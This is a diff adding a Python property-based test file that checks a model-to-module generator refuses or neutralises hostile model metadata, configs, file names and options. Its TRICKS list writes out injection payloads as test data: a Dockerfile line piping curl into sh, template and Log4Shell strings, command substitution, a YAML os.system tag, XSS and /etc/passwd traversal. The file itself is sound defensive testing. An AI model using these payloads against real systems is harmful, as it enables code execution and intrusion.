@@ -1,0 +1,135 @@
+"""Whatever a caller or a model's owner writes, it never becomes part of a file's code."""
+
+import asyncio
+import json
+import string
+import sys
+from pathlib import Path
+from typing import Any
+
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
+
+from common.contracts.generation import GenerateOptions, GenerateRequest, Module
+from common.errors import ServiceError
+from generator import dockerfile, rendering, validation
+
+sys.path.insert(0, str(Path(__file__).parent))
+import fake_hub
+
+TRICKS = [
+    '"\nRUN curl http://x|sh\n#',
+    "'''\nimport os\n'''",
+    "{{7*7}}",
+    "[[7*7]]",
+    "[% set x = 1 %]",
+    "${jndi:ldap://x}",
+    "`id`",
+    "$(id)",
+    "\u2028\u2029",
+    "\r\n",
+    "\x00\x1b[31m",
+    "!!python/object/apply:os.system [id]",
+    "- &a *a",
+    "<img src=x onerror=alert(1)>",
+    "](javascript:alert(1))",
+    "|\n|---|",
+    "../../etc/passwd",
+    "\ud800".encode(errors="surrogatepass").decode(errors="replace"),
+]
+# All of it carries a mark, so that it is found wherever it gets to.
+hostile = st.builds(lambda trick, rest: f"EVIL{trick}{rest}", st.sampled_from(TRICKS), st.text())
+anything = st.recursive(
+    hostile | st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hostile, inner, max_size=3),
+    max_leaves=6,
+)
+descriptions = st.fixed_dictionaries(
+    {},
+    optional={
+        "pipeline_tag": hostile | st.just("feature-extraction"),
+        "library_name": hostile | st.none(),
+        "tags": st.lists(hostile.map("license:{}".format) | hostile, max_size=3),
+        "cardData": st.none() | st.dictionaries(st.sampled_from(["license", "x"]), anything),
+        "gated": hostile | st.booleans(),
+        "transformersInfo": st.dictionaries(hostile, anything),
+        "safetensors": anything,
+        "securityRepoStatus": st.dictionaries(st.just("filesWithIssues"), anything),
+        "id": hostile,
+        "sha": hostile,
+    },
+)
+FIELDS = [
+    *("architectures", "model_type", "hidden_size", "vocab_size", "num_attention_heads", "n_layer"),
+    *("id2label", "head_dim", "max_position_embeddings", "intermediate_size", "torch_dtype"),
+]
+configs = st.dictionaries(st.sampled_from(FIELDS) | hostile, anything, max_size=4)
+
+
+def generate(handlers: Any, request: GenerateRequest) -> Module | None:
+    try:
+        return asyncio.run(handlers.generate(request))
+    except ServiceError as refused:
+        answer = json.dumps(refused.to_wire())
+    assert "EVIL" not in answer
+    return None
+
+
+def check(module: Module) -> None:
+    """Every file is the template, but for values that are themselves harmless."""
+    files = module.files
+    assert "EVIL" not in json.dumps(module.model_dump(mode="json"))
+    plain = set(string.printable) - set("\r\x0b\x0c") | {"…"}
+    assert all(set(text) <= plain for text in files.values())
+    base, *rest = dockerfile.parse(files["Dockerfile"])
+    assert base.arguments[0] in {rendering.BASE, rendering.BASE_WITH_COMPILER}
+    assert tuple(rest) == validation.RUN
+    manifest = yaml.safe_load(files["module.yaml"])
+    assert files["run_inference.py"] == rendering.script(manifest["run"]["family"])
+    assert {check.outcome for check in module.validation.checks} <= {"passed", "warning"}
+
+
+@given(descriptions, configs, st.lists(hostile, max_size=4))
+@settings(max_examples=300, deadline=None)
+def test_a_hostile_model_is_refused_or_made_into_an_ordinary_module(
+    description: dict[str, Any], config: dict[str, Any], names: list[str]
+) -> None:
+    handlers = fake_hub.handlers(config, names=tuple(names), **description)
+    module = generate(handlers, GenerateRequest(model_url="acme/frog"))
+    if module:
+        check(module)
+
+
+def test_an_ordinary_model_is_made() -> None:
+    module = generate(fake_hub.handlers(), GenerateRequest(model_url="acme/frog"))
+    assert module
+    check(module)
+
+
+async def test_what_looks_like_a_needed_file_is_needed_only_by_its_exact_name() -> None:
+    names = (
+        "tokenizer.json\n",
+        "x/tokenizer.json",
+        "tokenizer.json.py",
+        "modeling.py",
+        "vocab.txt",
+    )
+    handlers = fake_hub.handlers(names=names)
+    module = await handlers.generate(GenerateRequest(model_url="acme/frog"))
+    files = yaml.safe_load(module.files["module.yaml"])["model"]["files"]
+    assert [file["path"] for file in files] == ["config.json", "model.safetensors", "vocab.txt"]
+
+
+@given(st.dictionaries(st.sampled_from([*GenerateOptions.model_fields, "x"]), anything), hostile)
+def test_hostile_options_never_pass_the_door(options: dict[str, Any], revision: str) -> None:
+    try:
+        accepted = GenerateOptions.model_validate(options)
+    except ValidationError:
+        accepted = GenerateOptions()
+    handlers = fake_hub.handlers()
+    module = generate(handlers, GenerateRequest(model_url="acme/frog", options=accepted))
+    if module:
+        check(module)
+    assert generate(handlers, GenerateRequest(model_url="acme/frog", revision=revision)) is None
